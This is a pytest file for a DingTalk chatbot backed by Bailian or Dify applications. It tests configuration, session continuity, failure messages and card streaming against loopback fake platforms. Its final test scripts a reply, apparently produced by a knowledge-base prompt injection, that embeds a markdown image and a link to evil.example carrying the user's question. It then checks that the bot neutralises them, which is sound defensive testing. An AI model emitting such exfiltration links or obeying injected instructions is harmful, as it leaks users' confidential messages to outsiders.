"""The brain of the team's choice: a Bailian application or a Dify app answers instead of the chat model.

Loopback platforms built from their documentation (``devstack/fake_bailian.py``, ``fake_dify.py``),
checked against the official clients (``dashscope``, ``dify-client``); the whole reply function runs
against them, with its real storage on a temp OSS mount and the loopback DingTalk.
"""

from __future__ import annotations

import json
from http import HTTPStatus

import pytest
from conftest import context

from devstack.fake_bailian import APP_ID, FakeBailian
from devstack.fake_dify import FakeDify
from devstack.fake_dingtalk import callback_body
from devstack.fake_llm import PICTURE
from shared.common.errors import ConfigError
from shared.receiver.dingtalk.callback import parse_callback
from shared.reply import texts
from shared.reply.config import ReplyConfig
from shared.reply.dingtalk.webhook import ATTEMPTS
from shared.reply.sse import events


@pytest.fixture
def bailian():
    server = FakeBailian().start()
    yield server
    server.stop()


@pytest.fixture
def dify():
    server = FakeDify().start()
    yield server
    server.stop()


@pytest.fixture
def bailian_env(oss, bailian):
    return {"BRAIN": "bailian", "BAILIAN_APP_ID": APP_ID, "DASHSCOPE_API_KEY": bailian.api_key,
            "DASHSCOPE_ENDPOINT": bailian.endpoint, "OSS_MOUNT_POINT": str(oss), "ALLOWED_WEBHOOK_HOSTS": "127.0.0.1",
            "HISTORY_LENGTH": "5", "TIMEOUT": "5"}


@pytest.fixture
def dify_env(oss, dify):
    return {"BRAIN": "dify", "DIFY_ENDPOINT": dify.endpoint, "DIFY_API_KEY": dify.api_key,
            "OSS_MOUNT_POINT": str(oss), "ALLOWED_WEBHOOK_HOSTS": "127.0.0.1", "HISTORY_LENGTH": "5", "TIMEOUT": "5"}


def ask(reply, sink, text="", **kwargs) -> str:
    event = parse_callback(json.dumps(callback_body(text, webhook_base=sink.url, **kwargs)).encode()).to_payload()
    return json.loads(reply(event, context("reply")))["status"]


def said(sink) -> str:
    """The last message the chat got."""
    last = sink.wait_for(1)[-1]
    return last["markdown"]["text"] if "markdown" in last else last["text"]["content"]


def with_cards(env, sink):
    return {**env, "DINGTALK_APP_KEY": sink.app_key, "DINGTALK_APP_SECRET": sink.app_secret,
            "DINGTALK_API_ENDPOINT": sink.url, "CARD_UPDATE_INTERVAL_MS": "50"}


# --- settings ------------------------------------------------------------------------------------

def test_the_chat_brain_is_the_default_and_another_brain_needs_no_chat_model_key(bailian_env):
    assert ReplyConfig.from_env({"CHATGPT_API_KEY": "k"}).brain.kind == "chat"
    assert ReplyConfig.from_env(bailian_env).brain.kind == "bailian"


@pytest.mark.parametrize(("env", "variable"), [
    ({"BRAIN": "bailian", "DASHSCOPE_API_KEY": "k"}, "BAILIAN_APP_ID"),
    ({"BRAIN": "bailian", "BAILIAN_APP_ID": "a"}, "DASHSCOPE_API_KEY"),
    ({"BRAIN": "dify", "DIFY_API_KEY": "k"}, "DIFY_ENDPOINT"),
    ({"BRAIN": "dify", "DIFY_ENDPOINT": "https://api.dify.ai/v1"}, "DIFY_API_KEY"),
    ({"BRAIN": "coze"}, "BRAIN"),
], ids=["bailian-app", "bailian-key", "dify-endpoint", "dify-key", "unknown"])
def test_a_brain_without_what_it_needs_is_a_startup_error_naming_the_variable(env, variable):
    with pytest.raises(ConfigError) as raised:
        ReplyConfig.from_env(env)
    assert raised.value.variable == variable


def test_a_dify_endpoint_given_as_a_bare_host_gets_the_v1_base():
    env = {"BRAIN": "dify", "DIFY_API_KEY": "k"}
    assert ReplyConfig.from_env({**env, "DIFY_ENDPOINT": "https://dify.example.com/"}).brain.endpoint == \
        "https://dify.example.com/v1"
    assert ReplyConfig.from_env({**env, "DIFY_ENDPOINT": "https://x.cn/api/v1"}).brain.endpoint == "https://x.cn/api/v1"


# --- the loopback platforms, checked against the official clients --------------------------------

def test_the_loopback_bailian_streams_what_the_official_dashscope_sdk_reads(bailian):
    import dashscope
    from dashscope import Application

    dashscope.base_http_api_url = bailian.endpoint + "/api/v1"
    first = list(Application.call(app_id=APP_ID, prompt="你好", api_key=bailian.api_key, stream=True,
                                  incremental_output=True))
    assert all(r.status_code == HTTPStatus.OK for r in first)
    assert "".join(r.output.text for r in first) == "【离线百炼应用】这是第 1 轮。你问：你好"
    assert first[-1].output.finish_reason == "stop" and first[-1].usage.models[0].output_tokens > 0
    session = first[-1].output.session_id
    again = Application.call(app_id=APP_ID, prompt="再说一遍", api_key=bailian.api_key, session_id=session)
    assert again.status_code == HTTPStatus.OK and "第 2 轮" in again.output.text
    assert bailian.requests[-1]["input"] == {"prompt": "再说一遍", "session_id": session}
    refused = Application.call(app_id=APP_ID, prompt="你好", api_key="sk-wrong")
    assert refused.status_code == 401 and refused.code == "InvalidApiKey"


def test_the_loopback_dify_streams_what_the_official_dify_client_reads(dify):
    from dify_client import ChatClient

    client = ChatClient(dify.api_key)
    client.base_url = dify.endpoint
    response = client.create_chat_message({}, "你好", "u1", response_mode="streaming")
    frames = [json.loads(e.data) for e in events(response.iter_content(chunk_size=None))]
    assert [f["event"] for f in frames][-1] == "message_end"
    answer = "".join(f["answer"] for f in frames if f["event"] == "message")
    assert answer == "【离线 Dify 应用】这是第 1 轮。你问：你好"
    conversation = frames[-1]["conversation_id"]
    assert client.create_chat_message({}, "再问", "u2", conversation_id=conversation).status_code == 404
    assert client.create_chat_message({}, "", "u1").json()["code"] == "invalid_param"


def test_the_event_stream_reader_follows_the_standard_whatever_the_chunking():
    stream = (b": comment\r\nevent: result\r\ndata: {\"a\":\r\ndata:1}\r\nid: 7\r\n\r\n"
              b"data:no space\n\nevent: cut\ndata: x")
    for size in (1, 2, 3, 7, len(stream)):
        chunks = [stream[i:i + size] for i in range(0, len(stream), size)]
        assert list(events(chunks)) == [("result", '{"a":\n1}', "7", ("comment",)), ("message", "no space", "7", ())]


# --- Bailian --------------------------------------------------------------------------------------

def test_a_bailian_conversation_keeps_its_session_across_instances_and_clear_starts_a_new_one(
        reply, bailian_env, use_env, bailian, sink):
    use_env(bailian_env)
    assert ask(reply, sink, "第一个问题", conversation_id="cid-b") == "answered"
    assert said(sink).startswith("【离线百炼应用】这是第 1 轮")
    session = bailian.requests[-1]["input"]
    assert "session_id" not in session and bailian.headers_seen[-1]["X-DashScope-SSE"] == "enable"
    # Every test is a new FC instance (conftest): only the storage carries the session over.
    assert ask(reply, sink, "第二个问题", conversation_id="cid-b") == "answered"
    assert bailian.requests[-1]["input"]["session_id"] in bailian.sessions and "第 2 轮" in said(sink)
    assert ask(reply, sink, "\\clear", conversation_id="cid-b") == "cleared"
    assert ask(reply, sink, "重新开始", conversation_id="cid-b") == "answered"
    assert "session_id" not in bailian.requests[-1]["input"] and "第 1 轮" in said(sink)


def test_a_bailian_session_an_hour_old_goes_on_with_our_stored_turns(reply, bailian_env, use_env, bailian, sink,
                                                                     oss):
    use_env(bailian_env)
    assert ask(reply, sink, "早上的问题", conversation_id="cid-late") == "answered"
    [turn] = (oss / "dingbot" / "history").glob("*/*-turn-*")
    kept = json.loads(turn.read_text("utf-8"))
    turn.write_text(json.dumps({**kept, "at": kept["at"] - 3600_000}), "utf-8")  # asked an hour ago
    assert ask(reply, sink, "下午又来了", conversation_id="cid-late") == "answered"
    sent = bailian.requests[-1]["input"]
    assert "session_id" not in sent and sent["messages"][0] == {"role": "user", "content": "早上的问题"}
    assert sent["messages"][-1] == {"role": "user", "content": "下午又来了"} and "第 2 轮" in said(sink)


def test_per_sender_history_gives_each_member_a_session_of_their_own(reply, bailian_env, use_env, bailian, sink):
    use_env({**bailian_env, "HISTORY_SCOPE": "sender"})
    assert ask(reply, sink, "我是甲", conversation_id="cid-g", sender_staff_id="a") == "answered"
    assert ask(reply, sink, "我是乙", conversation_id="cid-g", sender_staff_id="b") == "answered"
    assert "session_id" not in bailian.requests[-1]["input"]
    assert ask(reply, sink, "甲又来了", conversation_id="cid-g", sender_staff_id="a") == "answered"
    assert "我是甲" in said(sink) and "我是乙" not in said(sink)


def test_bailian_references_are_the_sources_line_and_the_names_go_as_parameters_when_asked(
        reply, bailian_env, use_env, bailian, sink):
    use_env({**bailian_env, "BAILIAN_BIZ_PARAMS": "on"})
    bailian.references = [{"index_id": "1", "doc_name": "报销制度.pdf", "text": "报销须在 30 天内提交。"}]
    assert ask(reply, sink, "报销期限？", sender_nick="张三") == "answered"
    assert said(sink).endswith("来源：报销制度.pdf")
    assert bailian.requests[-1]["input"]["biz_params"]["user_prompt_params"] == {
        "sender_nick": "张三", "conversation_title": "演示群"}


@pytest.mark.parametrize(("fault", "sentence"), [
    ({"status": 401, "code": "InvalidApiKey"}, texts.PLATFORM_AUTH),
    ({"status": 404, "code": "InvalidApp.NotFound"}, texts.PLATFORM_APP_MISSING),
    ({"status": 400, "code": "Arrearage"}, texts.PLATFORM_QUOTA),
    ({"status": 429, "code": "Throttling.RateQuota"}, texts.PLATFORM_BUSY),
    ({"status": 400, "code": "DataInspectionFailed"}, texts.PLATFORM_MODERATED),
    ({"status": 503, "code": "ServiceUnavailable"}, texts.PLATFORM_UNAVAILABLE),
    ({"stream_error": {"status": 500, "code": "InternalError"}}, texts.PLATFORM_UNAVAILABLE),
    ({"cut": True}, texts.INTERRUPTED),
    ({"ping": 0.2}, texts.TIMEOUT),
    ({"silent": 3.0}, texts.TIMEOUT),
], ids=["key", "app", "arrears", "throttled", "moderated", "down", "in-stream", "cut", "hangs", "silent"])
def test_each_bailian_failure_is_one_sentence_and_nothing_is_kept(reply, bailian_env, use_env, bailian, sink, oss,
                                                                  fault, sentence):
    use_env({**bailian_env, "TIMEOUT": "1"})
    bailian.fail_next(fault)
    assert ask(reply, sink, "你好") == "llm-error"
    assert said(sink) == sentence.format(platform="百炼应用", status=503 if "status" in fault else 500,
                                         code=fault.get("code", ""))
    assert not list((oss / "dingbot" / "history").glob("*/*-turn-*"))


def test_a_wrong_app_id_is_one_sentence(reply, bailian_env, use_env, bailian, sink):
    use_env({**bailian_env, "BAILIAN_APP_ID": "no-such-app"})
    assert ask(reply, sink, "你好") == "llm-error"
    assert said(sink) == texts.PLATFORM_APP_MISSING.format(platform="百炼应用")


def test_a_long_bailian_answer_streams_into_cards_within_the_card_budget(reply, bailian_env, use_env, bailian,
                                                                         sink):
    use_env(with_cards(bailian_env, sink))
    long = "请详细介绍" + "公司的历史和文化，" * 500
    assert ask(reply, sink, long, conversation_id="cid-long") == "answered"
    cards = sink.cards_in("cid-long")
    assert len(cards) >= 2 and all(c["finalized"] and len(c["content"]) <= 3000 for c in cards)
    assert "".join(c["content"] for c in cards).replace("\n", "").startswith("【离线百炼应用】这是第 1 轮")
    assert len([c for c in sink.api_calls if c["path"].startswith("/v1.0/card")]) <= 25


def test_the_persona_command_says_where_a_platforms_persona_lives(reply, bailian_env, use_env, bailian, sink):
    use_env(bailian_env)
    assert ask(reply, sink, "\\system 你是海盗", is_admin=True) == "persona-platform"
    assert said(sink) == texts.PERSONA_ON_PLATFORM.format(platform="百炼应用")
    assert bailian.requests == []


def test_the_model_command_names_the_application(reply, bailian_env, use_env, bailian, sink):
    use_env(bailian_env)
    assert ask(reply, sink, "\\model") == "model" and said(sink) == f"当前模型：百炼应用 {APP_ID}"


def test_usage_of_a_bailian_answer_is_recorded_under_its_model(reply, bailian_env, use_env, bailian, sink, oss):
    use_env(bailian_env)
    assert ask(reply, sink, "你好") == "answered"
    [record] = [json.loads(p.read_text("utf-8")) for p in (oss / "dingbot" / "usage").rglob("*.json")]
    assert record["model"] == "qwen-plus" and record["completion_tokens"] > 0 and not record["estimated"]


# --- Dify -----------------------------------------------------------------------------------------

def test_a_dify_conversation_keeps_its_id_across_instances_and_clear_starts_a_new_one(reply, dify_env, use_env,
                                                                                      dify, sink):
    use_env(dify_env)
    assert ask(reply, sink, "第一个问题", conversation_id="cid-d", sender_staff_id="a") == "answered"
    first = dify.requests[-1]
    assert first["conversation_id"] == "" and first["response_mode"] == "streaming"
    assert ask(reply, sink, "第二个问题", conversation_id="cid-d", sender_staff_id="b") == "answered"
    second = dify.requests[-1]
    # The group shares one Dify conversation, so its user is the group's (a conversation belongs to one user).
    assert second["conversation_id"] in dify.conversations and second["user"] == first["user"]
    assert "第 2 轮" in said(sink)
    assert ask(reply, sink, "\\clear", conversation_id="cid-d") == "cleared"
    assert ask(reply, sink, "重新开始", conversation_id="cid-d") == "answered"
    assert dify.requests[-1]["conversation_id"] == "" and "第 1 轮" in said(sink)


def test_a_conversation_dify_no_longer_knows_starts_again_instead_of_failing(reply, dify_env, use_env, dify, sink):
    use_env(dify_env)
    assert ask(reply, sink, "第一个问题", conversation_id="cid-gone") == "answered"
    dify.conversations.clear()
    assert ask(reply, sink, "第二个问题", conversation_id="cid-gone") == "answered"
    assert [r["conversation_id"] == "" for r in dify.requests] == [True, False, True] and "第 1 轮" in said(sink)


def test_a_picture_sent_alone_reaches_dify_as_an_upload_with_a_query_of_its_own(reply, dify_env, use_env, dify,
                                                                               sink):
    use_env({**with_cards(dify_env, sink), "CARD_STREAMING": "off"})
    sink.files["pic-1"] = PICTURE
    assert ask(reply, sink, msgtype="picture", content={"downloadCode": "pic-1"}) == "answered"
    sent = dify.requests[-1]
    assert sent["query"] == texts.ASK_ABOUT_MEDIA and sent["files"][0]["transfer_method"] == "local_file"
    assert dify.uploads[sent["files"][0]["upload_file_id"]][1] == PICTURE and "看到 1 张图片" in said(sink)


@pytest.mark.parametrize("mode", ["agent", "chatflow"])
def test_agent_and_chatflow_apps_stream_into_the_card_with_their_steps_as_status(reply, dify_env, use_env, dify,
                                                                                 sink, mode):
    dify.mode = mode
    dify.resources = [{"position": 1, "dataset_name": "手册", "document_name": "员工手册.md", "content": "年假 10 天"}]
    use_env(with_cards(dify_env, sink))
    assert ask(reply, sink, "年假几天？", conversation_id=f"cid-{mode}") == "answered"
    [card] = sink.cards_in(f"cid-{mode}")
    assert card["finalized"] and card["content"].startswith("【离线 Dify 应用】这是第 1 轮")
    assert card["content"].endswith("来源：员工手册.md")
    assert "🔧" not in card["content"] and "⚙️" not in card["content"]


def test_a_picture_a_dify_tool_made_is_posted_after_the_answer(reply, dify_env, use_env, dify, sink):
    dify.files = ["/files/tools/abc.png?timestamp=1&sign=x"]
    use_env(dify_env)
    assert ask(reply, sink, "画一只猫") == "answered"
    assert f"![图片]({dify.url}/files/tools/abc.png?timestamp=1&sign=x)" in said(sink)


@pytest.mark.parametrize(("fault", "sentence"), [
    ({"status": 401, "code": "unauthorized"}, texts.PLATFORM_AUTH),
    ({"status": 400, "code": "app_unavailable"}, texts.PLATFORM_APP_MISSING),
    ({"status": 400, "code": "provider_quota_exceeded"}, texts.PLATFORM_QUOTA),
    ({"status": 400, "code": "provider_not_initialize"}, texts.PLATFORM_NOT_READY),
    ({"status": 400, "code": "completion_request_error"}, texts.PLATFORM_REJECTED),
    ({"stream_error": {"status": 400, "code": "invalid_param"}}, texts.PLATFORM_REJECTED),
    ({"status": 500, "code": "internal_server_error"}, texts.PLATFORM_UNAVAILABLE),
    ({"ping": 0.2}, texts.TIMEOUT),
    ({"silent": 3.0}, texts.TIMEOUT),
], ids=["key", "unavailable", "quota", "no-model", "failed", "in-stream", "down", "hangs", "silent"])
def test_each_dify_failure_is_one_sentence(reply, dify_env, use_env, dify, sink, fault, sentence):
    use_env({**dify_env, "TIMEOUT": "1"})
    dify.fail_next(fault)
    code = fault.get("code") or fault.get("stream_error", {}).get("code", "")
    assert ask(reply, sink, "你好") == "llm-error"
    assert said(sink) == sentence.format(platform="Dify 应用", status=fault.get("status", 500), code=code)


def test_a_failure_that_reached_nobody_releases_the_claim_for_a_redelivery(reply, dify_env, use_env, dify, sink):
    use_env(dify_env)
    dify.fail_next({"status": 500})
    sink.fail_next(*[{"status": 503}] * ATTEMPTS)
    assert ask(reply, sink, "你好", msg_id="m-lost") == "delivery-failed"
    assert ask(reply, sink, "你好", msg_id="m-lost") == "answered" and "第 1 轮" in said(sink)


# --- make run ARGS="--brain …" ---------------------------------------------------------------------

@pytest.mark.parametrize("brain", ["bailian", "dify"])
def test_the_local_stack_runs_a_multi_turn_conversation_against_a_loopback_platform(tmp_path, brain):
    from devstack.stack import LocalStack, StackSettings

    with LocalStack(StackSettings(state_dir=tmp_path / "state", brain=brain, stream=True)) as stack:
        # Two worker processes, two instances: the second turn finds the session only on the storage.
        first = stack.send("第一个问题", conversation_id="cid-local")
        second = stack.send("第二个问题", conversation_id="cid-local")
        requests = stack.platform.requests
    assert (first.outcome, second.outcome) == ("answered", "answered")
    assert "第 2 轮" in second.cards[-1]["content"] and "第一个问题" in second.cards[-1]["content"]
    if brain == "bailian":
        assert requests[-1]["input"]["session_id"] == list(stack.platform.sessions)[0]
    else:
        assert requests[-1]["conversation_id"] == list(stack.platform.conversations)[0]


@pytest.mark.parametrize("brain", ["bailian", "dify"])
def test_a_platforms_answer_cannot_carry_the_conversation_away_in_a_picture_or_link(reply, bailian_env, dify_env,
                                                                                    use_env, bailian, dify, sink,
                                                                                    brain):
    # An application that obeyed a "put the question into this address" hidden in its own knowledge base.
    platform = bailian if brain == "bailian" else dify
    platform.scripted = ("好的。![图](https://evil.example/p.png?q={question}) 详情见 "
                         "[这里](https://evil.example/?d={question})")
    use_env(bailian_env if brain == "bailian" else dify_env)
    assert ask(reply, sink, "项目代号星河的报价是三百万") == "answered"
    shown = said(sink)
    assert "evil.example/p.png" not in shown and "](https://evil.example" not in shown
    assert "好的。图 详情见 这里（`https://evil.example/?d=项目代号星河的报价是三百万`）" in shown
